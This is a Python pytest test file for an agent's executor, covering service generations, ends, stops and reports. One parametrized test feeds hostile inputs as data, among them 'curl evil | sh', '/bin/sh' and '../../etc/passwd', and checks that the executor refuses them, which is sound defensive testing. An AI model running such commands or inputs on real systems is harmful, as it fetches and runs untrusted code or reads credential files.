"""The executor: what is wanted runs, each generation once, one at a time, and nothing else."""

from __future__ import annotations

from contextlib import asynccontextmanager
from typing import TYPE_CHECKING

import anyio
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from agent.decisions.shared import ItemReport, ItemsReported, Step, Want
from agent.run import executor as executor_module
from support.executing import executing

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from agent.run.executor import Clear, OnProgress, Runner
    from support.executing import Executing

pytestmark = pytest.mark.anyio
NAMES = ("data", "retriever")


class Things:
    """Things that run until they are told how to end, and take a moment to be stopped."""

    def __init__(self) -> None:
        self.began: list[str] = []
        self.alive: list[str] = []
        self.says: dict[str, OnProgress] = {}
        self._ends: dict[str, str] = {}
        self.leaves: set[str] = set()
        """What leaves something that resists."""
        self._news = anyio.Event()

    def runner_of(self, name: str) -> Runner | None:
        """Return the runner of a name of the plan."""
        return self.run if name in NAMES else None

    async def run(self, name: str, _want: Want, progress: OnProgress) -> str:
        """Run until an end is set."""
        assert name not in self.alive, "two of one name"
        self.began.append(name)
        self.alive.append(name)
        self.says[name] = progress
        self._ends.pop(name, None)
        try:
            while name not in self._ends:
                await self._news.wait()
        finally:
            with anyio.CancelScope(shield=True):
                await anyio.lowlevel.checkpoint()
            self.alive.remove(name)
        return self._ends[name]

    def clear_of(self, name: str) -> Clear | None:
        """Return what ends the rest of a thing that leaves something."""

        async def clear(progress: OnProgress) -> None:
            progress(doubt="a process cannot be ended")
            while name in self.leaves:
                await self._news.wait()

        return clear if name in self.leaves else None

    async def is_gone(self, name: str) -> None:
        """Let nothing be left of a thing any more."""
        self.leaves.discard(name)
        await self._wake()

    async def end(self, name: str, failure: str) -> None:
        """Let a thing end."""
        self._ends[name] = failure
        await self._wake()

    async def _wake(self) -> None:
        self._news.set()
        self._news = anyio.Event()
        await anyio.wait_all_tasks_blocked()


@asynccontextmanager
async def story() -> AsyncIterator[tuple[Executing, Things]]:
    """Have an executor with such things, of which none is left at its end."""
    things = Things()
    async with executing(things.runner_of, things.clear_of) as there:
        yield there, things
    assert things.alive == []


async def test_a_service_from_its_start_to_its_next_generation() -> None:
    """Each change is reported, the last end too; a generation starts once."""
    async with story() as (there, things):
        await there.wants({"retriever": Want()})
        things.says["retriever"](Step.PENDING, "connection refused")
        things.says["retriever"](Step.READY, "")
        await there.wants({"retriever": Want()})
        assert things.alive == ["retriever"]
        await things.end("retriever", "exit code 1")
        await there.wants({"retriever": Want()})
        assert things.began == ["retriever"]
        await there.wants({"retriever": Want(2)})
        assert things.began == ["retriever"] * 2
        assert [one.items for one in there.sent] == [
            (ItemReport("retriever", Step.PENDING, "", 1, is_running=True),),
            (ItemReport("retriever", Step.PENDING, "connection refused", 1, is_running=True),),
            (ItemReport("retriever", Step.READY, "", 1, is_running=True),),
            (ItemReport("retriever", Step.LOST, "exit code 1", 1),),
            (ItemReport("retriever", Step.PENDING, "", 2, is_running=True),),
        ]


async def test_a_later_generation_waits_for_the_end_of_the_former() -> None:
    """What is stopped keeps its port until nothing is left of it."""
    async with story() as (there, things):
        await there.wants({"retriever": Want()})
        there.executor.apply({"retriever": Want(3)})
        assert things.alive == ["retriever"]
        await anyio.wait_all_tasks_blocked()
        assert things.began == ["retriever"] * 2
        (stopped,) = there.sent[1].items
        assert (stopped.step, stopped.was_stopped, stopped.generation) == (Step.LOST, True, 1)
        (again,) = there.sent[2].items
        assert (again.is_running, again.generation) == (True, 3)


async def test_an_end_is_reported_at_once_and_the_next_start_waits_until_nothing_is_left() -> None:
    """Decisions about a loss need the end, a start needs that it is over."""
    async with story() as (there, things):
        things.leaves.add("retriever")
        await there.wants({"retriever": Want()})
        await things.end("retriever", "exit code 1")
        await there.wants({"retriever": Want(2)})
        ended = ItemReport("retriever", Step.LOST, "exit code 1", is_running=True)
        doubted = replace(ended, doubt="a process cannot be ended")
        assert [item for one in there.sent[-2:] for item in one.items] == [ended, doubted]
        await things.is_gone("retriever")
        assert there.sent[-2].items == (replace(doubted, is_running=False),)
        again = ItemReport("retriever", Step.PENDING, generation=2, is_running=True)
        assert there.sent[-1].items == (again,)


async def test_the_end_of_the_node_does_not_wait_for_what_is_left() -> None:
    """It ends with the agent, as all descendants do."""
    async with story() as (there, things):
        things.leaves = {*NAMES}
        await there.wants({"data": Want(), "retriever": Want()})
        await things.end("data", "exit code 1")
        await there.executor.close()
        assert not any(item.is_running for item in there.sent[-1].items)


async def test_what_is_wanted_no_more_ends_and_its_report_stays() -> None:
    """A step that is done is ready, and so reported as long as the agent runs."""
    async with story() as (there, things):
        await there.wants({"data": Want(), "retriever": Want()})
        await things.end("data", "")
        await there.wants({})
        assert things.alive == []
        steps = [(item.name, item.step) for item in there.sent[-1].items]
        assert steps == [("data", Step.READY), ("retriever", Step.LOST)]


async def test_what_is_to_be_over_ends_or_never_begins() -> None:
    """Its end is reported, also where it had not begun: the head waits for it."""
    async with story() as (there, things):
        await there.wants({"retriever": Want()})
        await there.wants({"retriever": Want(is_over=True), "data": Want(3, is_over=True)})
        assert things.began == ["retriever"]
        items = there.sent[-1].items
        assert [(item.name, item.generation) for item in items] == [("retriever", 1), ("data", 3)]
        for item in items:
            assert (item.step, item.was_stopped, item.is_running) == (Step.LOST, True, False)


@pytest.mark.parametrize(
    "name", ["curl evil | sh", "/bin/sh", "../../etc/passwd", "http://evil/", "", "RETRIEVER"]
)
async def test_whoever_answers_as_the_head_can_run_nothing_else(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name that is not in this node's plan is refused, logged once, and reported."""
    said: list[str] = []
    monkeypatch.setattr(executor_module, "say", lambda line, _level: said.append(line))
    async with story() as (there, things):
        there.executor.apply({name: Want()})
        await there.wants({name: Want()})
        assert things.began == []
        refused = (Step.LOST, f"this node's plan has no {name!r} to run")
        assert (there.item.step, there.item.evidence) == refused
    (line,) = said
    assert line.startswith("what the head wants is refused")


WANTS = st.dictionaries(st.sampled_from(NAMES), st.integers(1, 4).map(Want))
ENDS = st.tuples(st.sampled_from(NAMES), st.sampled_from(["", "exit code 1"]))


@given(st.lists(st.one_of(WANTS, ENDS)), WANTS)
async def test_any_history_ends_in_what_is_wanted_last(
    history: list[dict[str, Want] | tuple[str, str]], last: dict[str, Want]
) -> None:
    """No generation starts twice or beside another; repeated and old messages change nothing."""
    async with story() as (there, things):
        sent = there.sent
        for one in (*history, last, last):
            if isinstance(one, dict):
                there.executor.apply(one)
            else:
                await things.end(*one)

        def is_settled() -> bool:
            now = {item.name: item for item in sent[-1].items} if sent else {}
            running = {name for name, item in now.items() if item.is_running}
            begun = [name for name in last if name in now]
            begun = [name for name in begun if now[name].generation >= last[name].generation]
            return running == {*things.alive} and running <= {*last} and {*begun} == {*last}

        while not is_settled():  # what is stopped takes a moment
            await anyio.lowlevel.checkpoint()
        starts = [
            (item.name, item.generation)
            for former, after in zip([ItemsReported(()), *sent], sent, strict=False)
            for item in after.items
            if item.is_running and item not in former.items and item.step is Step.PENDING
        ]
        assert len(starts) == len({*starts})
